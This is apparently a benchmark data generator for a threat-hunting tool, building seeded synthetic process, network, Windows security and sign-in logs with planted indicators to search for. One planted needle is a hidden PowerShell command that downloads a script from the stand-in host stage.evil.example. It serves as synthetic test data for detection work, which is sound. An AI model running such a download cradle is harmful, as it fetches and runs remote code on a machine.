"""Four tables over 30 days, made by dice that always fall alike, for every measurement over much data.

`lake()` makes them once, and opens them afterwards, below the folder that `HUNTLAKE_BENCH_DATA` names (the system's
temp folder if nothing does). `HUNTLAKE_BENCH_SCALE` says how many of the rows below there are: 1 is all, 0.01 what is
made if nothing is said. `HUNTLAKE_BENCH_SCALE=1 python -m bench.lakes` takes ten minutes and 5 GB of disk.

| table | rows at scale 1 | columns | what is in it |
|---|---|---|---|
| `DeviceProcessEvents` | 10.2 million | 36 | command lines, paths, hashes of programs and of what started them |
| `DeviceNetworkEvents` | 12 million | 23 | connections of processes that `DeviceProcessEvents` has on that day |
| `SecurityEvent` | 7.8 million | 36 | logons, processes, objects; `EventData` is JSON in a text, another in each row |
| `SigninLogs` | 2.1 million | 19 | four dynamic columns |

The days are the 30 before `END`; each has one file of each table, in the order of time. 5,500 devices and 6,000 users,
of which few do much and most do little; some rows have a path, a hash or a command line that no other has.

Three rows each hold one of the `NEEDLES`, on three days of one table; `203.0.113.77` is in two tables.
"""

from __future__ import annotations

import os
import shutil
import sys
import tempfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

from huntlake.assembly.analytics import Analytics
from huntlake.core.clock import FixedClock
from huntlake.engines.duckdb.database import Bounds
from huntlake.engines.geography import Nowhere
from huntlake.lake.forms import StoredColumn, identifier
from huntlake.lake.table import LakeTable
from huntlake.lake.writing import copy, flush
from huntlake.workspace.catalogue import Catalogue
from huntlake.workspace.tables import FORMS
from huntlake.workspace.workspaces import Workspace

if TYPE_CHECKING:
    import duckdb
    import numpy as np
    import pyarrow as pa
    from numpy.typing import NDArray

    Numbers = NDArray[np.int64]

DAYS = 30
END = datetime(2026, 11, 1, tzinfo=UTC)
"""The time at which the measurements ask: the midnight after the last day."""
SOC = Workspace("soc", "11111111-2222-3333-4444-555555555555")
THREADS = 2

SHA256 = "5f1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100ab"
STAGE = "stage.evil.example"
CDN = "cdn.evil.example"
ADDRESS = "203.0.113.77"
NEEDLES = {
    SHA256: (("DeviceProcessEvents", "SHA256"),),
    STAGE: (("DeviceProcessEvents", "ProcessCommandLine"),),
    CDN: (("DeviceNetworkEvents", "RemoteUrl"),),
    ADDRESS: (("DeviceNetworkEvents", "RemoteIP"), ("SecurityEvent", "IpAddress")),
}
"""What three rows hold, in each of these columns."""

_VERSION = 3
"""Of what is made, and of how it is kept: data of another version isn't opened."""
_NEEDLE_DAYS = (3, 14, 26)


def scale() -> float:
    """How much of the data there shall be."""
    return float(os.environ.get("HUNTLAKE_BENCH_SCALE", "0.01"))


def folder(of: float | None = None) -> Path:
    """Where the data lies, or will."""
    place = Path(os.environ.get("HUNTLAKE_BENCH_DATA") or tempfile.gettempdir())
    return place / f"huntlake-bench-{_VERSION}-{scale() if of is None else of:g}"


def lake(of: float | None = None) -> Analytics:
    """The data, made if it isn't there yet. `SOC` is the workspace."""
    of = scale() if of is None else of
    home = folder(of)
    if not (home / "complete").exists():
        shutil.rmtree(home, ignore_errors=True)
        making = home.with_name(f"{home.name}.making-{os.getpid()}")
        _make(making, of)
        (making / "complete").touch()
        # Another measurement may have made the same meanwhile.
        if home.exists():
            shutil.rmtree(making)
        else:
            making.rename(home)
    return opened(home)


def opened(home: Path) -> Analytics:
    """The lake of a folder, whose clock stands at `END`."""
    return Analytics.over(home, Bounds(threads=THREADS), Nowhere(), FixedClock(END))


@dataclass(frozen=True)
class Made:
    """A table of the data: its columns, and the rows of one day as SQL over Arrow tables."""

    name: str
    rows: int
    """Of a day, at scale 1."""
    columns: tuple[str, ...]
    day: Callable[[Pools, int, int], tuple[pa.Table, str]]

    def stored(self) -> list[StoredColumn]:
        """The columns as the lake keeps them."""
        schema = Catalogue().table(self.name)
        assert schema is not None
        types = {c.name: c.type for c in schema.columns}
        return [StoredColumn(name, FORMS[types[name]]) for name in self.columns]


def json_bytes(made: Made, connection: duckdb.DuckDBPyConnection, of: float) -> float:
    """How long a row would be as a line of JSON: the mean of a day's."""
    table, sql = made.day(Pools.the(), 0, max(1, round(made.rows * min(of, 0.02))))
    connection.register("made", table)
    rows = f"select {', '.join(map(identifier, made.columns))} from ({sql})"
    ((size,),) = connection.execute(f"select avg(strlen(to_json(t)::VARCHAR) + 1) from ({rows}) t").fetchall()
    return float(size)


def _make(home: Path, of: float) -> None:
    import duckdb

    made_in = opened(home)
    with duckdb.connect(config={"threads": THREADS}) as connection:
        connection.execute("set TimeZone = 'UTC'")
        for made in TABLES:
            columns = made.stored()
            table = made_in.lake.table(SOC.name, made.name)
            table.declare(columns)
            table.commit(list(_files(connection, table, made, columns, of)))
    made_in.close()


def _files(
    connection: duckdb.DuckDBPyConnection, table: LakeTable, made: Made, columns: Sequence[StoredColumn], of: float
) -> Iterator[Any]:
    for day in range(DAYS):
        rows, sql = made.day(Pools.the(), day, max(1, round(made.rows * of)))
        connection.register("made", rows)
        fields = ", ".join(identifier(c.name) for c in columns)
        file = copy(connection, f"select {fields} from ({sql})", columns, table.folder, day_of(day))
        assert file is not None
        flush([table.folder / file.path], table.folder)
        print(f"{made.name} {day_of(day)}: {file.rows:,} rows, {file.bytes:,} bytes", file=sys.stderr, flush=True)
        yield file


def day_of(day: int) -> date:
    """The date of a day that is counted from 0."""
    return (END - timedelta(days=DAYS - day)).date()


# -- what the rows are drawn from ------------------------------------------------------------------------------------


class Pools:
    """The values that rows share, each a dictionary of Arrow by which rows name them."""

    _made: Pools | None = None

    @classmethod
    def the(cls) -> Pools:
        """They are the same for everyone."""
        cls._made = cls._made or cls()
        return cls._made

    def __init__(self) -> None:
        import numpy as np

        dice = np.random.default_rng(20261101)
        self.words = _words(dice, 6_000)
        self.hosts = _devices(dice, self.words, 5_500)
        self.users = _users(dice, self.words, 6_000)
        self.programs = _programs(dice, self.words, 1_100)
        self.arguments = [" ".join(_drawn(dice, self.words, 6)) for _ in range(20_000)]
        self.places = _places(dice, self.words, 30_000)
        self.addresses = [
            f"{a}.{b}.{c}.{d}"
            for a, b, c, d in zip(
                dice.integers(11, 190, 60_000).tolist(),
                *(dice.integers(1, 255, 60_000).tolist() for _ in range(3)),
                strict=True,
            )
        ]
        self.inner = [f"10.{n // 250 // 250}.{n // 250 % 250}.{n % 250 + 1}" for n in range(6_000)]


def _words(dice: Any, count: int) -> list[str]:
    heads = "b br c ch cl d dr f fl g gr h j k l m n p pl pr qu r s sc sh sp st str t th tr v w z".split()
    middles = "a e i o u ai ea ou io".split()
    tails = ["", "n", "r", "s", "t", "l", "ck", "nd", "rm", "st", "ng", "x"]
    made: dict[str, None] = {}
    while len(made) < count:
        syllables = int(dice.integers(1, 4))
        text = "".join(
            heads[int(dice.integers(len(heads)))]
            + middles[int(dice.integers(len(middles)))]
            + tails[int(dice.integers(len(tails)))]
            for _ in range(syllables)
        )
        if len(text) > 3:
            made[text] = None
    return list(made)


def _drawn(dice: Any, words: list[str], count: int) -> list[str]:
    return [words[i] for i in dice.integers(0, len(words), count).tolist()]


def _hex(dice: Any, digits: int) -> str:
    text: str = dice.bytes(digits // 2).hex()
    return text


def _devices(dice: Any, words: list[str], count: int) -> dict[str, list[str]]:
    kinds = ["ws", "ws", "ws", "lt", "lt", "srv", "vdi"]
    names = [f"{kinds[i % 7]}-{_drawn(dice, words, 1)[0][:6]}{i:05d}.corp.example" for i in range(count)]
    return {
        "DeviceName": names,
        "DeviceId": [_hex(dice, 40) for _ in names],
        "LocalIP": [f"10.{20 + i // 250 // 250}.{i // 250 % 250}.{i % 250 + 1}" for i in range(count)],
        "SourceComputerId": [_guid(_hex(dice, 32)) for _ in names],
    }


def _users(dice: Any, words: list[str], count: int) -> dict[str, list[str]]:
    first, last = _drawn(dice, words, count), _drawn(dice, words, count)
    names = [f"{a[:8]}.{b[:10]}{i % 97}" for i, (a, b) in enumerate(zip(first, last, strict=True))]
    return {
        "AccountName": names,
        "AccountSid": [f"S-1-5-21-1004336348-1177238915-682003330-{1_000 + i}" for i in range(count)],
        "AccountUpn": [f"{n}@corp.example" for n in names],
        "DisplayName": [f"{a.title()} {b.title()}" for a, b in zip(first, last, strict=True)],
        "UserId": [_guid(_hex(dice, 32)) for _ in names],
    }


def _programs(dice: Any, words: list[str], count: int) -> dict[str, list[Any]]:
    known = [
        "powershell cmd svchost rundll32 regsvr32 schtasks wmic mshta cscript conhost chrome msedge teams outlook",
        "excel winword explorer services lsass taskhostw certutil bitsadmin curl net whoami nltest sc reg msiexec",
    ]
    names = [f"{n}.exe" for n in " ".join(known).split()]
    names += [f"{''.join(_drawn(dice, words, 2))}.exe" for _ in range(count - len(names))]
    companies = ["Microsoft Corporation", *(f"{w.title()} Software GmbH" for w in _drawn(dice, words, 60))]
    roots = [
        "C:\\Windows\\System32",
        "C:\\Windows\\SysWOW64",
        "C:\\Program Files\\{}\\{}",
        "C:\\Program Files (x86)\\{}\\{}\\bin",
        "C:\\ProgramData\\{}\\{}",
    ]
    folders = [
        roots[0 if i < 34 else int(dice.integers(len(roots)))].format(*(w.title() for w in _drawn(dice, words, 2)))
        for i in range(count)
    ]
    own = [companies[0] if i < 34 else companies[int(dice.integers(len(companies)))] for i in range(count)]
    switches = [
        " ".join(f"{('-', '/', '--')[int(dice.integers(3))]}{w}" for w in _drawn(dice, words, int(dice.integers(3, 9))))
        for _ in range(count)
    ]
    return {
        "FileName": names,
        "FolderPath": [f"{f}\\{n}" for f, n in zip(folders, names, strict=True)],
        "Folder": folders,
        "SHA1": [_hex(dice, 40) for _ in names],
        "SHA256": [_hex(dice, 64) for _ in names],
        "MD5": [_hex(dice, 32) for _ in names],
        "FileSize": [int(n) for n in dice.integers(20_000, 90_000_000, count)],
        "ProcessVersionInfoCompanyName": own,
        "ProcessVersionInfoProductName": [
            "Microsoft® Windows® Operating System" if i < 34 else " ".join(w.title() for w in _drawn(dice, words, 2))
            for i in range(count)
        ],
        "CommandLine": [f'"{f}\\{n}" {s}' for f, n, s in zip(folders, names, switches, strict=True)],
    }


def _places(dice: Any, words: list[str], count: int) -> list[str]:
    tops = ["com", "com", "net", "org", "io", "example"]
    return [
        f"{('www', 'api', 'cdn', 'login', 'static', 'mail')[i % 6]}.{''.join(_drawn(dice, words, 2))}.{tops[i % 6]}"
        for i in range(count)
    ]


def _guid(text: str) -> str:
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


# -- the rows of a day -----------------------------------------------------------------------------------------------


class _Day:
    """The dice of one day of one table, and the columns of its rows by number."""

    def __init__(self, pools: Pools, table: int, day: int, rows: int) -> None:
        import numpy as np

        self.pools = pools
        self.rows = rows
        self.dice = np.random.default_rng([table, day, rows])
        # From seven to nineteen o'clock there is more to do.
        share = self.dice.random(rows)
        busy = 7 + 12 * self.dice.beta(2, 2, rows)
        hours = np.sort(np.where(share < 0.6, busy, 24 * self.dice.random(rows)))
        self.times = (hours * 3_600_000_000).astype(np.int64) + _micros(day)
        first = (table * DAYS + day) * 1_000_000_000
        self.columns: dict[str, Any] = {"n": np.arange(first, first + rows, dtype=np.int64), "t": self.times}

    def some(self, count: int, skew: float = 1.2) -> Numbers:
        """A number below `count` for each row, of which the low ones come often."""
        import numpy as np

        # A power of a uniform number falls as a Zipf law does, and is bounded.
        return (count * self.dice.random(self.rows) ** (2 * skew)).astype(np.int64)

    def any(self, low: int, high: int) -> Numbers:
        """A number for each row."""
        found: Numbers = self.dice.integers(low, high, self.rows)
        return found

    def named(self, name: str, numbers: Numbers, values: Sequence[Any]) -> None:
        """Give the rows a column: of `values` those with these numbers."""
        import numpy as np
        import pyarrow as pa

        self.columns[name] = pa.DictionaryArray.from_arrays(pa.array(numbers.astype(np.int32)), pa.array(values))

    def table(self) -> pa.Table:
        import pyarrow as pa

        return pa.table(self.columns)

    def needle(self, day: int, value: str, name: str, place: float = 0.5) -> str:
        """SQL for a column that holds a needle in one row of three days."""
        if day not in _NEEDLE_DAYS:
            return name
        return f"case when n = {int(self.columns['n'][int(self.rows * place)])} then '{value}' else {name} end"


def _micros(day: int) -> int:
    start = END - timedelta(days=DAYS - day)
    return int(start.timestamp()) * 1_000_000


_TIME = "make_timestamptz(t) as TimeGenerated"


def _unlike(length: int, salt: str) -> str:
    """SQL for so many hexadecimal digits that no other row has."""
    return f"left(sha256('{salt}' || n), {length})"


def _id(salt: str) -> str:
    """SQL for a GUID that no other row has."""
    h = f"md5('{salt}' || n)"
    return f"left({h}, 8) || '-' || {h}[9:12] || '-' || {h}[13:16] || '-' || {h}[17:20] || '-' || right({h}, 12)"


def _json_text(fields: dict[str, str]) -> str:
    """SQL for a JSON object of texts, each of which is given as SQL."""
    members = " || ',' || ".join(f"'\"{name}\":\"' || {text} || '\"'" for name, text in fields.items())
    return f"'{{' || {members} || '}}'"


def _processes(pools: Pools, day: int, rows: int) -> _Day:
    """Which device, user, program and parent the process events of a day are of."""
    made = _Day(pools, 1, day, rows)
    for name, count, skew in (
        ("host", 5_500, 1.0),
        ("user", 6_000, 1.0),
        ("program", 1_100, 1.4),
        ("parent", 400, 1.2),
    ):
        made.columns[name] = made.some(count, skew)
    made.columns["process"] = made.any(1, 16_384) * 4
    return made


def _process_events(pools: Pools, day: int, rows: int) -> tuple[pa.Table, str]:
    made = _processes(pools, day, rows)
    host, user, program, parent = (made.columns.pop(n) for n in ("host", "user", "program", "parent"))
    for name in ("DeviceName", "DeviceId"):
        made.named(name, host, pools.hosts[name])
    for name in ("AccountName", "AccountSid", "AccountUpn"):
        made.named(name, user, pools.users[name])
        made.named(f"InitiatingProcess{name}", user, pools.users[name])
    for name, values in pools.programs.items():
        made.named(name, program, values)
        if name in ("FileName", "FolderPath", "SHA1", "SHA256", "MD5", "CommandLine"):
            made.named(f"Parent{name}", parent, values)
    made.named("Grandparent", made.some(60), pools.programs["FileName"])
    made.named("arguments", made.some(20_000, 1.0), pools.arguments)
    made.named("level", made.some(3), ["Medium", "High", "System"])
    made.named("elevation", made.some(3), ["TokenElevationTypeDefault", "TokenElevationTypeLimited", "Full"])
    made.columns["luck"] = made.any(0, 1_000)
    made.columns["initiator"] = made.any(1, 16_384) * 4
    made.columns["logon"] = made.any(100_000, 90_000_000)
    command = (
        "case when luck < 250 then CommandLine || ' ' || arguments || ' --session ' || "
        f"{_unlike(16, 'session')} when luck < 700 then CommandLine || ' ' || arguments else CommandLine end"
    )
    command = f"case when n % 97 = 5 then '{_PIPE}' || ({command}) else {command} end"
    command = made.needle(day, f"powershell.exe -nop -w hidden -c iwr https://{STAGE}/a.ps1", f"({command})", 0.3)
    tail = "luck between 700 and 739"
    sql = f"""
        select {_TIME}, DeviceId, DeviceName, 'ProcessCreated' as ActionType, FileName,
            case when {tail} then 'C:\\Users\\' || AccountName || '\\AppData\\Local\\Temp\\' || {_unlike(12, "path")}
                || '\\' || FileName else FolderPath end as FolderPath,
            case when {tail} then {_unlike(40, "sha1")} else SHA1 end as SHA1,
            {made.needle(day, SHA256, f"case when {tail} then {_unlike(64, 'sha256')} else SHA256 end", 0.6)} as SHA256,
            case when {tail} then {_unlike(32, "md5")} else MD5 end as MD5,
            FileSize, ProcessVersionInfoCompanyName, ProcessVersionInfoProductName,
            process as ProcessId, {command} as ProcessCommandLine, level as ProcessIntegrityLevel,
            elevation as ProcessTokenElevation, make_timestamptz(t - 1500 - luck) as ProcessCreationTime,
            'corp' as AccountDomain, AccountName, AccountSid, AccountUpn, logon as LogonId,
            'corp' as InitiatingProcessAccountDomain, InitiatingProcessAccountName, InitiatingProcessAccountSid,
            ParentSHA1 as InitiatingProcessSHA1, ParentSHA256 as InitiatingProcessSHA256,
            ParentMD5 as InitiatingProcessMD5, ParentFileName as InitiatingProcessFileName,
            ParentFolderPath as InitiatingProcessFolderPath, ParentCommandLine as InitiatingProcessCommandLine,
            initiator as InitiatingProcessId, make_timestamptz(t - 90000000 - luck * 1000000)
                as InitiatingProcessCreationTime, Grandparent as InitiatingProcessParentFileName,
            n % 1000000000 as ReportId,
            '{{"ProcessTokenElevation":"' || elevation || '","SignatureStatus":"'
                || case when luck < 900 then 'Valid' else 'Unsigned' end || '","SignerType":"OsVendor",'
                || '"DesktopName":"winsta0\\\\default","Rule":"' || arguments || '","Count":' || luck || '}}'
                as AdditionalFields
        from made order by t, n"""
    return made.table(), sql


_PIPE = "cmd.exe /c echo ready > \\\\.\\pipe\\health & "


def _network_events(pools: Pools, day: int, rows: int) -> tuple[pa.Table, str]:
    made = _Day(pools, 2, day, rows)
    # What connects was started: a row of the process events of the same day.
    started = _processes(pools, day, max(1, rows * PROCESS_ROWS // NETWORK_ROWS)).columns
    which = made.any(0, len(started["n"]))
    for name in ("DeviceName", "DeviceId", "LocalIP"):
        made.named(name, started["host"][which], pools.hosts[name])
    for name in ("AccountName", "AccountSid"):
        made.named(name, started["user"][which], pools.users[name])
    for name in ("FileName", "FolderPath", "SHA1", "SHA256", "MD5", "CommandLine"):
        made.named(name, started["program"][which], pools.programs[name])
    made.columns["process"] = started["process"][which]
    made.columns["created"] = started["t"][which]
    made.named("address", made.some(60_000), pools.addresses)
    made.named("place", made.some(30_000), pools.places)
    made.named("inner", made.some(6_000), pools.inner)
    made.named("page", made.some(20_000, 1.0), pools.words * 4)
    made.named("action", made.some(4), ["ConnectionSuccess", "ConnectionAttempt", "ConnectionFailed", "DnsQuery"])
    made.named("port", made.some(7), [443, 80, 445, 53, 389, 3389, 8080])
    made.columns["local"] = made.any(49_152, 65_536)
    made.columns["luck"] = made.any(0, 1_000)
    other = "concat(1 + n % 200, '.', 1 + n // 200 % 250, '.', 1 + n // 50000 % 250, '.', 1 + luck % 250)"
    address = f'case when luck < 700 then address when luck < 960 then "inner" else {other} end'
    url = (
        "case when luck < 300 then '' when luck < 800 then place when luck < 970 then 'https://' || place || '/' "
        f"|| page else 'https://' || place || '/' || page || '?id=' || {_unlike(20, 'url')} end"
    )
    sql = f"""
        select {_TIME}, DeviceId, DeviceName, action as ActionType,
            {made.needle(day, ADDRESS, f"({address})", 0.45)} as RemoteIP, port::INTEGER as RemotePort,
            {made.needle(day, f"https://{CDN}/update.bin", f"({url})", 0.7)} as RemoteUrl,
            LocalIP, local::INTEGER as LocalPort, case when port = 53 then 'Udp' else 'Tcp' end as Protocol,
            case when luck between 700 and 959 then 'Private' else 'Public' end as RemoteIPType,
            SHA1 as InitiatingProcessSHA1, SHA256 as InitiatingProcessSHA256, MD5 as InitiatingProcessMD5,
            FileName as InitiatingProcessFileName, FolderPath as InitiatingProcessFolderPath,
            process as InitiatingProcessId, CommandLine as InitiatingProcessCommandLine,
            make_timestamptz(least(created, t)) as InitiatingProcessCreationTime,
            'corp' as InitiatingProcessAccountDomain, AccountName as InitiatingProcessAccountName,
            AccountSid as InitiatingProcessAccountSid, n % 1000000000 as ReportId
        from made order by t, n"""
    return made.table(), sql


_EVENTS = {
    4624: "An account was successfully logged on.",
    4634: "An account was logged off.",
    4672: "Special privileges assigned to new logon.",
    4688: "A new process has been created.",
    4689: "A process has exited.",
    4663: "An attempt was made to access an object.",
    4656: "A handle to an object was requested.",
    4658: "The handle to an object was closed.",
    5156: "The Windows Filtering Platform has permitted a connection.",
    5158: "The Windows Filtering Platform has permitted a bind to a local port.",
    4625: "An account failed to log on.",
    4648: "A logon was attempted using explicit credentials.",
    4768: "A Kerberos authentication ticket (TGT) was requested.",
    4769: "A Kerberos service ticket was requested.",
    4776: "The domain controller attempted to validate the credentials for an account.",
    5140: "A network share object was accessed.",
    4698: "A scheduled task was created.",
    4720: "A user account was created.",
    7045: "A service was installed in the system.",
    1102: "The audit log was cleared.",
}


def _security_events(pools: Pools, day: int, rows: int) -> tuple[pa.Table, str]:
    made = _Day(pools, 3, day, rows)
    host, subject, target = made.some(5_500, 1.0), made.some(6_000, 1.0), made.some(6_000, 1.0)
    kind = made.some(len(_EVENTS), 0.9)
    made.named("Computer", host, pools.hosts["DeviceName"])
    made.named("SourceComputerId", host, pools.hosts["SourceComputerId"])
    made.named("WorkstationName", host, [n.split(".")[0].upper() for n in pools.hosts["DeviceName"]])
    made.named("EventID", kind, list(_EVENTS))
    made.named("Activity", kind, [f"{n} - {text}" for n, text in _EVENTS.items()])
    made.named("Task", kind, [12_000 + 32 * i for i in range(len(_EVENTS))])
    for name, who in (("Subject", subject), ("Target", target)):
        made.named(f"{name}UserName", who, pools.users["AccountName"])
        made.named(f"{name}UserSid", who, pools.users["AccountSid"])
        made.named(f"{name}Account", who, [f"CORP\\{n}" for n in pools.users["AccountName"]])
    program, parent = made.some(1_100, 1.4), made.some(400)
    made.named("NewProcessName", program, pools.programs["FolderPath"])
    made.named("CommandLine", program, pools.programs["CommandLine"])
    made.named("Process", program, pools.programs["FileName"])
    made.named("ParentProcessName", parent, pools.programs["FolderPath"])
    made.named("arguments", made.some(20_000, 1.0), pools.arguments)
    made.named("address", made.some(6_000), pools.inner)
    made.named("logon", made.some(5), [3, 5, 2, 10, 7])
    made.named("package", made.some(3), ["Kerberos", "NTLM", "Negotiate"])
    made.columns["pid"] = made.any(1, 16_384) * 4
    made.columns["session"] = made.any(100_000, 90_000_000)
    made.columns["port"] = made.any(49_152, 65_536)
    logons, processes = "EventID in (4624, 4625, 4634, 4648, 4768, 4769, 4776)", "EventID in (4688, 4689)"
    data = _json_text(
        {
            "SubjectUserSid": "SubjectUserSid",
            "SubjectUserName": "SubjectUserName",
            "SubjectDomainName": "'CORP'",
            "SubjectLogonId": "'0x' || printf('%x', session)",
            "TargetUserSid": "TargetUserSid",
            "TargetUserName": "TargetUserName",
            "LogonType": "logon",
            "AuthenticationPackageName": "package",
            "WorkstationName": "WorkstationName",
            "LogonGuid": f"'{{' || upper({_id('logon')}) || '}}'",
            "ProcessId": "'0x' || printf('%x', pid)",
            "ProcessName": "replace(NewProcessName, '\\', '\\\\')",
            "IpAddress": "address",
            "IpPort": "port",
            "Details": "arguments",
            "ElevatedToken": "'%%1843'",
        }
    )
    sql = f"""
        select {_TIME}, Computer, EventID::INTEGER as EventID, Activity, 'Security' as Channel,
            'Microsoft-Windows-Security-Auditing' as EventSourceName, '0' as Level, Task::INTEGER as Task,
            TargetAccount as Account, 'User' as AccountType, SubjectUserName, 'CORP' as SubjectDomainName,
            SubjectUserSid, '0x' || printf('%x', session) as SubjectLogonId, SubjectAccount, TargetUserName,
            'CORP' as TargetDomainName, TargetUserSid, '0x' || printf('%x', session + 4096) as TargetLogonId,
            TargetAccount, case when {logons} then logon::INTEGER end as LogonType,
            case when {logons} then logon || ' - Logon' else '' end as LogonTypeName,
            case when {logons} then 'User32' else '' end as LogonProcessName,
            case when {logons} then package else '' end as AuthenticationPackageName,
            {made.needle(day, ADDRESS, f"(case when {logons} then address else '' end)", 0.8)} as IpAddress,
            case when {logons} then port::VARCHAR else '' end as IpPort,
            case when {logons} then WorkstationName else '' end as WorkstationName,
            case when {processes} then Process else '' end as Process,
            '0x' || printf('%x', pid) as ProcessId,
            case when {processes} then NewProcessName else '' end as NewProcessName,
            case when {processes} then ParentProcessName else '' end as ParentProcessName,
            case when EventID = 4688 then CommandLine || ' ' || arguments else '' end as CommandLine,
            {data} as EventData, SourceComputerId, {_id("origin")} as EventOriginId,
            (n % 1000000000)::VARCHAR as EventRecordId
        from made order by t, n"""
    return made.table(), sql


_CITIES = {
    "Berlin": ("DE", 52.52, 13.405),
    "Wien": ("AT", 48.2, 16.37),
    "Lisboa": ("PT", 38.72, -9.14),
    "Oslo": ("NO", 59.91, 10.75),
    "Seattle": ("US", 47.6, -122.33),
    "Osaka": ("JP", 34.69, 135.5),
    "Lagos": ("NG", 6.45, 3.39),
    "Lima": ("PE", -12.04, -77.03),
}
_RESULTS = {
    "0": "",
    "50126": "Error validating credentials due to invalid username or password.",
    "50074": "Strong Authentication is required.",
    "53003": "Access has been blocked by Conditional Access policies.",
    "50053": "The account is locked.",
}


def _sign_ins(pools: Pools, day: int, rows: int) -> tuple[pa.Table, str]:
    made = _Day(pools, 4, day, rows)
    user, city, result = made.some(6_000, 1.0), made.some(len(_CITIES), 1.1), made.some(len(_RESULTS), 1.5)
    for name in ("AccountUpn", "DisplayName", "UserId"):
        made.named(name, user, pools.users[name])
    made.named("city", city, list(_CITIES))
    made.named("country", city, [c for c, _, _ in _CITIES.values()])
    made.named("spot", city, [f'{{"latitude":{a},"longitude":{b}}}' for _, a, b in _CITIES.values()])
    made.named("result", result, list(_RESULTS))
    made.named("description", result, list(_RESULTS.values()))
    app = made.some(240)
    made.named(
        "app", app, [f"{a.title()} {b.title()}" for a, b in zip(pools.words[:240], pools.words[500:], strict=False)]
    )
    made.named("appid", app, [_guid(f"{i * 7919:032x}") for i in range(240)])
    made.named("address", made.some(60_000), pools.addresses)
    made.named("client", made.some(4), ["Browser", "Mobile Apps and Desktop clients", "Exchange ActiveSync", "IMAP4"])
    made.named("system", made.some(5), ["Windows10", "MacOs", "Ios 18.1", "Android", "Linux"])
    made.named("browser", made.some(40), [f"{('Edge', 'Chrome', 'Firefox')[i % 3]} {100 + i}.0.0" for i in range(40)])
    made.named("risk", made.some(4, 2.5), ["none", "low", "medium", "high"])
    made.columns["luck"] = made.any(0, 1_000)
    policies = ", ".join(
        f'\'{{"id":"{_guid(f"{i:032x}")}","displayName":"Policy {i}","result":"\' '
        f"|| case when luck % {i + 2} = 0 then 'success' else 'notApplied' end || '\"}}'"
        for i in range(4)
    )
    sql = f"""
        select {_TIME}, {_id("signin")} as Id, {_id("correlation")} as CorrelationId, AccountUpn as UserPrincipalName,
            DisplayName as UserDisplayName, UserId, app as AppDisplayName, appid as AppId, address as IPAddress,
            country as Location, result as ResultType, description as ResultDescription, client as ClientAppUsed,
            'Mozilla/5.0 (' || system || '; ' || browser || ') AppleWebKit/537.36 (KHTML, like Gecko)' as UserAgent,
            risk as RiskLevelDuringSignIn,
            '{{"city":"' || city || '","state":"' || city || '","countryOrRegion":"' || country
                || '","geoCoordinates":' || spot || '}}' as LocationDetails,
            '{{"deviceId":"' || case when luck < 600 then UserId else '' end || '","operatingSystem":"' || system
                || '","browser":"' || browser || '","isCompliant":' || case when luck < 500 then 'true' else 'false' end
                || ',"trustType":"Hybrid Azure AD joined"}}' as DeviceDetail,
            '{{"errorCode":' || result || ',"failureReason":"' || description || '","additionalDetails":"'
                || case when luck < 400 then 'MFA requirement satisfied by claim in the token' else '' end || '"}}'
                as Status,
            '[' || concat_ws(',', {policies}) || ']' as ConditionalAccessPolicies
        from made order by t, n"""
    return made.table(), sql


PROCESS_ROWS, NETWORK_ROWS, SECURITY_ROWS, SIGN_IN_ROWS = 340_000, 400_000, 260_000, 70_000

TABLES = (
    Made(
        "DeviceProcessEvents",
        PROCESS_ROWS,
        tuple(
            "TimeGenerated DeviceId DeviceName ActionType FileName FolderPath SHA1 SHA256 MD5 FileSize "
            "ProcessVersionInfoCompanyName ProcessVersionInfoProductName ProcessId ProcessCommandLine "
            "ProcessIntegrityLevel ProcessTokenElevation ProcessCreationTime AccountDomain AccountName AccountSid "
            "AccountUpn LogonId InitiatingProcessAccountDomain InitiatingProcessAccountName "
            "InitiatingProcessAccountSid InitiatingProcessSHA1 InitiatingProcessSHA256 InitiatingProcessMD5 "
            "InitiatingProcessFileName InitiatingProcessFolderPath InitiatingProcessCommandLine InitiatingProcessId "
            "InitiatingProcessCreationTime InitiatingProcessParentFileName ReportId AdditionalFields".split()
        ),
        _process_events,
    ),
    Made(
        "DeviceNetworkEvents",
        NETWORK_ROWS,
        tuple(
            "TimeGenerated DeviceId DeviceName ActionType RemoteIP RemotePort RemoteUrl LocalIP LocalPort Protocol "
            "RemoteIPType InitiatingProcessSHA1 InitiatingProcessSHA256 InitiatingProcessMD5 "
            "InitiatingProcessFileName InitiatingProcessFolderPath InitiatingProcessId InitiatingProcessCommandLine "
            "InitiatingProcessCreationTime InitiatingProcessAccountDomain InitiatingProcessAccountName "
            "InitiatingProcessAccountSid ReportId".split()
        ),
        _network_events,
    ),
    Made(
        "SecurityEvent",
        SECURITY_ROWS,
        tuple(
            "TimeGenerated Computer EventID Activity Channel EventSourceName Level Task Account AccountType "
            "SubjectUserName SubjectDomainName SubjectUserSid SubjectLogonId SubjectAccount TargetUserName "
            "TargetDomainName TargetUserSid TargetLogonId TargetAccount LogonType LogonTypeName LogonProcessName "
            "AuthenticationPackageName IpAddress IpPort WorkstationName Process ProcessId NewProcessName "
            "ParentProcessName CommandLine EventData SourceComputerId EventOriginId EventRecordId".split()
        ),
        _security_events,
    ),
    Made(
        "SigninLogs",
        SIGN_IN_ROWS,
        tuple(
            "TimeGenerated Id CorrelationId UserPrincipalName UserDisplayName UserId AppDisplayName AppId IPAddress "
            "Location ResultType ResultDescription ClientAppUsed UserAgent RiskLevelDuringSignIn LocationDetails "
            "DeviceDetail Status ConditionalAccessPolicies".split()
        ),
        _sign_ins,
    ),
)


if __name__ == "__main__":
    lake()
    print(folder())
